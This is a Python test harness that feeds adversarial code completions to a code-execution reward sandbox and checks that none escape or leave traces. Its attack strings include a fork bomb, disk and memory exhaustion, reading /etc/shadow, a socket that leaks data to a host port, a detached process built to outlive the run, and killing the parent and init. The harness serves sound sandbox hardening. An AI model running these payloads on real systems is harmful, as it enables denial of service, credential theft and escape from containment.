"""Adversarial completions against the code-execution sandbox: each must score 0 and leave nothing.

Each attack is a solution ``def f(x)`` that tries to do harm and returns what its one test expects
only when the harm worked (the contents of ``/etc/shadow``, ``"connected"``, 10 GiB written, ...) or
hangs (a process meant to outlive the run). :func:`run` sends each through
``CodeExecutionReward.run_tests`` (the reward's own path), with tight limits. After every attack the
host is checked: no process whose command line holds the sandbox runner or the attack's marker, no new
file in the host's temporary folder or this checkout, nothing reached the port the attacks target, free
disk space not lower. ``test_sandbox_attacks.py`` asserts the outcome (about 15 s); the table of one run
is in docs/datasets_and_rewards.md.
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]
GIB = 1 << 30


@dataclass(frozen=True)
class Attack:
    """One adversarial completion: its code (formatted with the context) and what its test expects."""

    name: str
    code: str
    expected: Any  # a value, or a callable (context) -> value


def _secret(path: str) -> Any:
    def read(context: dict) -> Any:
        try:
            return Path(path.format(**context)).read_text()
        except OSError:  # unreadable to the host too: nothing the attack could match
            return "<unreadable on the host>"

    return read


ATTACKS = [
    Attack("infinite loop", "def f(x):\n    while True:\n        pass\n", 1),
    Attack(
        "fork bomb",
        """import os, time
def f(x):
    forked = 0
    for _ in range(1000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:  # every child forks for ever too
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        forked += 1
    return forked
""",
        1000,
    ),
    Attack(
        "allocate 10 GB", "def f(x):\n    block = bytearray(10 * 2**30)\n    return len(block)\n", 10 * GIB
    ),
    Attack(
        "write a 10 GB file",
        """import signal
def f(x):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of being killed at the size limit
    chunk, written = b"\\0" * (1 << 20), 0
    for name in range(10240):
        for folder in ("/tmp", "/home/sandbox", "{repo}", "/root", "/", "/usr"):
            try:
                with open(f"{{folder}}/{marker}-{{name}}", "wb") as out:
                    for _ in range(1024):
                        out.write(chunk)
                        written += len(chunk)
            except OSError:
                pass
        if written >= 10 * 2**30:
            break
    return written
""",
        10 * GIB,
    ),
    Attack("read /etc/shadow", "def f(x):\n    return open('/etc/shadow').read()\n", _secret("/etc/shadow")),
    Attack(
        "read the repo's files",
        "def f(x):\n    return open('{repo}/pyproject.toml').read()\n",
        _secret("{repo}/pyproject.toml"),
    ),
    Attack(
        "socket to a host port",
        """import socket
def f(x):
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
        conn.sendall(b"leak {marker}")
    return "connected"
""",
        "connected",
    ),
    Attack(
        "a process that outlives the run",
        """import os, sys, time
def f(x):
    if os.fork() == 0:
        os.setsid()  # out of the run's process group and session
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{marker}"])
        os._exit(0)
    time.sleep(600)  # hold the run until the timeout kills it
""",
        "escaped",
    ),
    Attack(
        "print 1 GB to stdout",
        "import sys\ndef f(x):\n    line = 'x' * (1 << 20)\n    for _ in range(1024):\n        sys.stdout.write(line)\n    return 'printed'\n",
        "printed",
    ),
    Attack(
        "os.kill on the parent",
        """import os, signal
def f(x):
    for target in (os.getppid(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.kill({worker_pid}, signal.SIGKILL)  # the worker's own pid: ProcessLookupError in the sandbox
    return "killed"
""",
        "killed",
    ),
]


class Listener:
    """A TCP server on 127.0.0.1 that records every connection (the attacks must not reach it)."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.accepted.append(conn.recv(1024))
                except OSError:
                    self.accepted.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=2)
        self.server.close()


def leftover_processes(markers: list[str]) -> list[str]:
    """Command lines of live processes (zombies excepted) holding any of ``markers``."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z" and any(marker in cmdline for marker in markers):
            found.append(f"{entry.name}: {cmdline[:120]}")
    return found


def host_files(marker: str) -> list[str]:
    """Files named after the attack marker in the host places an attack aims at, and the checkout's changes."""
    hits = []
    for folder in (tempfile.gettempdir(), str(REPO), str(Path.home()), "/"):
        try:
            hits += [str(p) for p in Path(folder).iterdir() if marker in p.name]
        except OSError:
            pass
    return hits


def repo_changes() -> set[str]:
    try:
        out = subprocess.run(
            ["git", "status", "--porcelain"], cwd=REPO, capture_output=True, text=True
        ).stdout
    except OSError:
        return set()
    return set(out.splitlines())


def run(config: dict[str, Any]) -> dict[str, Any]:
    """Every attack through ``CodeExecutionReward.run_tests``; one row per attack plus the host checks."""
    from unirl_lightning.rewards import CodeExecutionReward
    from unirl_lightning.rewards.sandbox import RUNNER_SOURCE

    reward = CodeExecutionReward(
        timeout_s=config["timeout_s"],
        cpu_time_s=max(1, int(config["timeout_s"]) - 1),
        memory_bytes=512 << 20,
        max_output_bytes=1 << 20,
        allow_unsandboxed=config.get("allow_unsandboxed", False),
    )
    runner_marker = RUNNER_SOURCE.splitlines()[0]
    listener = Listener()
    changes_before, tmp_before = repo_changes(), set(os.listdir(tempfile.gettempdir()))
    free_before = shutil.disk_usage(tempfile.gettempdir()).free
    rows = []
    try:
        for attack in ATTACKS:
            marker = "unirl-attack-" + secrets.token_hex(6)
            context = {"repo": str(REPO), "port": listener.port, "marker": marker, "worker_pid": os.getpid()}
            expected = attack.expected(context) if callable(attack.expected) else attack.expected
            record = {"tests": [{"input": [0], "output": expected}]}
            start = time.monotonic()
            report = reward.run_tests(attack.code.format(**context), record)
            elapsed = time.monotonic() - start
            left = leftover_processes([marker, runner_marker])
            for _ in range(20):  # a PID namespace dies within moments of its init
                if not left:
                    break
                time.sleep(0.1)
                left = leftover_processes([marker, runner_marker])
            files = host_files(marker)
            rows.append(
                {
                    "attack": attack.name,
                    "score": report.passed / report.total,
                    "seconds": round(elapsed, 2),
                    "outcome": report.outcomes[0].replace(str(REPO), "<repo>"),
                    "processes_left": left,
                    "files_left": files,
                    "connections": len(listener.accepted),
                }
            )
            print(
                f"{attack.name}: score {rows[-1]['score']}, {elapsed:.2f} s, {report.outcomes[0][:80]}",
                flush=True,
            )
        honest = reward.run_tests("def f(x):\n    return x + 1\n", {"tests": [{"input": [1], "output": 2}]})
    finally:
        listener.close()
    tmp_after = set(os.listdir(tempfile.gettempdir()))
    return {
        "sandbox": reward.sandbox.check(),
        "limits": {"timeout_s": config["timeout_s"], "memory_bytes": 512 << 20, "max_output_bytes": 1 << 20},
        "attacks": rows,
        "honest_after_attacks": honest.passed == honest.total,
        "connections_received": [c.decode(errors="replace") for c in listener.accepted],
        "new_repo_changes": sorted(repo_changes() - changes_before),
        "new_tmp_entries_with_marker": sorted(e for e in tmp_after - tmp_before if "unirl-attack" in e),
        "free_disk_drop_bytes": max(0, free_before - shutil.disk_usage(tempfile.gettempdir()).free),
    }
